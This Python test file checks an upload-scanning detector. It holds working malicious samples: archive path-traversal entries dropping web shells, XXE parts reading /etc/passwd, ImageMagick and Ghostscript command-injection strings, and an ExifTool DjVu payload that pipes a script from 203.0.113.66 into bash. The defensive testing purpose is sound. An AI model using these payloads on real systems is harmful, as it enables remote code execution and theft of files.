"""Payloads for the parser of an uploaded file's format: archive slip, XXE in document parts,
ImageMagick/Ghostscript scripts, ExifTool DjVu annotations. Ordinary uploads must pass."""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
from typing import Any

import pytest

from bastion.detect import uploads as U
from bastion.testing import make_pipeline, rule_ids

BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"


def multipart(filename: str, content: bytes, ctype: str = "application/octet-stream") -> dict[str, Any]:
    body = (f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nmy upload\r\n"
            f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\n"
            f"Content-Type: {ctype}\r\n\r\n").encode() + content + f"\r\n--{BOUNDARY}--\r\n".encode()
    return {"method": "POST", "target": "/api/v1/uploads",
            "headers": {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}, "body": body}


def raw(content: bytes, ctype: str) -> dict[str, Any]:
    return {"method": "PUT", "target": "/api/v1/objects/x", "headers": {"Content-Type": ctype}, "body": content}


def tar_with(files: dict[str, bytes], link: tuple[str, str] | None = None) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
        if link:
            info = tarfile.TarInfo(link[0])
            info.type = tarfile.SYMTYPE
            info.linkname = link[1]
            t.addfile(info)
    return buf.getvalue()


def zip_with(files: dict[str, str], stored: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as z:
        for name, text in files.items():
            z.writestr(name, text)
    return buf.getvalue()


XXE_DOC = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><!DOCTYPE w:document [<!ENTITY % ext SYSTEM '
           '"http://oast.example/docx.dtd"> %ext;]><w:document xmlns:w="http://schemas.openxmlformats.org/'
           'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&send;</w:t></w:r></w:p></w:body></w:document>')
OK_DOC = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org'
          '/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hello &amp; welcome</w:t></w:r></w:p></w:body>'
          '</w:document>')
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
DJVU = (b"AT&TFORM\x00\x00\x03\xafDJVMDIRM\x00\x00\x00.\x81\x00\x02\x00\x00\x00F\x00\x00\x00\xac\xff\xff"
        b"FORM\x00\x00\x03\x07DJVIANTa\x00\x00\x01P"
        b'(metadata\n\t(Copyright "\\\n" . qx{curl -s http://203.0.113.66/gl.sh | bash} . \\\n" b ") )\n')
MVG = (b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|curl \"http://oast.example/im)'"
       b"\npop graphic-context\n")
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4

MUST_MATCH = [
    (U.ARCHIVE_TRAVERSAL, multipart("upload.tar", tar_with({"../../../../home/vsphere-ui/vcli/1.jsp": b"<% x %>"}),
                                    "application/x-tar")),
    (U.ARCHIVE_TRAVERSAL, multipart("a.tar", tar_with({"ok.txt": b"x"}, link=("evil", "/etc/cron.d/x")))),
    (U.ARCHIVE_TRAVERSAL, multipart("a.zip", zip_with({"../../var/www/html/s.php": "<?php ?>"}), "application/zip")),
    (U.ARCHIVE_TRAVERSAL, raw(zip_with({"..\\..\\inetpub\\wwwroot\\x.aspx": "x"}, stored=True), "application/zip")),
    (U.ARCHIVE_TRAVERSAL, raw(gzip.compress(tar_with({"/etc/passwd": b"root"})), "application/gzip")),
    (U.ARCHIVE_XXE, multipart("cv.docx", zip_with({"[Content_Types].xml": TYPES, "word/document.xml": XXE_DOC}),
                              "application/vnd.openxmlformats-officedocument.wordprocessingml.document")),
    (U.ARCHIVE_XXE, multipart("cv.docx", zip_with({"[Content_Types].xml": TYPES, "word/document.xml": XXE_DOC},
                                                  stored=True))),
    (U.ARCHIVE_XXE, multipart("data.xlsx", zip_with({"xl/workbook.xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e '
                                                                        'SYSTEM "file:///etc/passwd">]><workbook>&e;'
                                                                        '</workbook>'}))),
    (U.IMAGE_SCRIPT, multipart("img.mvg", MVG, "image/png")),
    (U.IMAGE_SCRIPT, multipart("a.png", b"push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 'ephemeral:/tmp/x'"
                                        b"\npop graphic-context\n", "image/png")),
    (U.IMAGE_SCRIPT, multipart("a.eps", b"%!PS\n/OutputFile (%pipe%id) def\nshowpage\n", "application/postscript")),
    (U.IMAGE_SCRIPT, multipart("a.jpg", b'<?xml version="1.0"?><image><read filename="https://oast.example/x.png"/>'
                                        b'<write filename="/var/www/shell.php"/></image>', "image/jpeg")),
    (U.METADATA_CODE, multipart("avatar.jpg", DJVU, "image/jpeg")),
    (U.METADATA_CODE, multipart("a.jpg", b"\xff\xd8\xff\xe1\x00\x10Exif" + DJVU.replace(b"qx{", b"\\c${system('id')}")
                                + b"\xff\xd9", "image/jpeg")),
]

MUST_NOT_MATCH = [
    multipart("ok.docx", zip_with({"[Content_Types].xml": TYPES, "word/document.xml": OK_DOC}),
              "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    multipart("release.tar", tar_with({"./app/main.py": b"print(1)", "app/README.md": b"# hi"}), "application/x-tar"),
    raw(gzip.compress(tar_with({"pkg/a.txt": b"x"})), "application/gzip"),
    multipart("photo.png", PNG, "image/png"),
    multipart("logo.svg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><image href="a.png"/>'
                          b'<text>url(#grad) | a;b</text></svg>', "image/svg+xml"),
    multipart("products.csv", b"sku,name\nA1,\"Mug | 300ml; blue\"\n", "text/csv"),
    multipart("doc.djvu", b"AT&TFORMDJVUINFO(metadata (Title \"Annual report\") (Author \"Ann\"))"),
    multipart("notes.txt", b"push graphic-context is an ImageMagick MVG command; see url(https://imagemagick.org)",
              "text/plain"),
    raw(b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF", "application/pdf"),
    raw(zip_with({"a/b.txt": "..", "c/../d.txt": "x"}).replace(b"c/../d.txt", b"c/.../d.txt"), "application/zip"),
]


def _ids(cases: list[Any]) -> list[str]:
    return [f"{i}-{c[0] if isinstance(c, tuple) else 'ok'}" for i, c in enumerate(cases)]


@pytest.fixture(scope="module")
def pipeline() -> Any:
    return make_pipeline(only={"uploads"})


@pytest.mark.parametrize(("rule", "kw"), MUST_MATCH, ids=_ids(MUST_MATCH))
async def test_must_match(pipeline: Any, rule: str, kw: dict[str, Any]) -> None:
    assert rule in await rule_ids(pipeline, **kw)


@pytest.mark.parametrize("kw", MUST_NOT_MATCH, ids=_ids(MUST_NOT_MATCH))
async def test_must_not_match(pipeline: Any, kw: dict[str, Any]) -> None:
    assert await rule_ids(pipeline, **kw) == set()


def test_every_rule_has_a_must_match_case() -> None:
    rules = {v for k, v in vars(U).items() if k.isupper() and isinstance(v, str) and v.startswith("upload-")}
    assert rules == {rule for rule, _ in MUST_MATCH}


async def test_a_compression_bomb_is_cheap(pipeline: Any) -> None:
    import time

    bomb = zip_with({f"word/part{i}.xml": "<a>" + " " * 5_000_000 + "</a>" for i in range(4)})
    t = time.process_time()
    assert await rule_ids(pipeline, **multipart("bomb.docx", bomb)) == set()
    assert time.process_time() - t < 1.0
